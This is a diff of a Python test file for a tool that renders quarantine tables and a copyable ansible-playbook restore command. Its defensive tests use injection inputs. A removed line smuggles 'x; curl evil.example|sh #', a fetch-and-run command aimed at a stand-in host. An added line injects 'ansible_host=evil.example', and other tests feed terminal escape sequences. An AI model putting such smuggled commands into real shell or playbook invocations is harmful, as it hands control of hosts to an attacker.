@@ -190,6 +190,16 @@ def test_what_was_counted_is_shown_with_its_error():
     assert lines[-3:] == ["  AGES", "      4,990  under 1h", "          2  older"]
 
 
+def test_what_a_host_says_without_an_end_is_no_endless_table():
+    run = {"run": RUN, "created": 0, "selection": "x", "messages": 1, "unfinished": False}
+    states = {"state {0}".format(number): 1 for number in range(1000)}
+    lines = tables.lines_of("vps1", seen(quarantine=[run] * 5000, states=states, ages=states), COLUMNS)
+    assert len(lines) < 200
+    assert "  IN QUARANTINE, THE NEWEST 100 OF 5,000" in lines
+    assert max(map(len, lines)) < 1000
+    assert len(tables.lines_of("vps1", done(matched=1, moved=1, evidence=["x"] * 5000), COLUMNS)) < 200
+
+
 def test_quarantine_is_listed():
     run = {"run": RUN, "created": 0, "selection": "subject: *", "messages": 5000, "unfinished": True}
     assert RUN + "  5,000     subject: * (interrupted)" in text_of(seen(quarantine=[run]))
@@ -243,7 +253,7 @@ def told(**values):
 def test_nothing_of_an_answer_steers_the_terminal():
     answer = told(
         state="quar" + ESCAPES,
-        run=RUN + ESCAPES,
+        run=RUN,
         states={"deferred" + ESCAPES: 1},
         evidence=[ESCAPES],
         passed_over=[{"id": ESCAPES + "vps1: all clean", "reason": ESCAPES}],
@@ -256,7 +266,7 @@ def test_nothing_of_an_answer_steers_the_terminal():
 
 
 def test_the_command_to_copy_is_one_command():
-    lines = tables.lines_of("vps1; id", told(run="x; curl evil.example|sh #"), COLUMNS)
+    lines = tables.lines_of("vps1; id", told(run=RUN), COLUMNS)
     command = lines[lines.index("  To have them back:") + 1]
     assert shlex.split(command) == [
         "ansible-playbook",
@@ -266,8 +276,9 @@ def test_the_command_to_copy_is_one_command():
         "-e",
         "queue_action=restore",
         "-e",
-        "queue_run=x; curl evil.example|sh #",
+        "queue_run=" + RUN,
     ]
+    assert "To have them back" not in text_of(told(run="x ansible_host=evil.example"))
 
 
 @pytest.mark.parametrize(
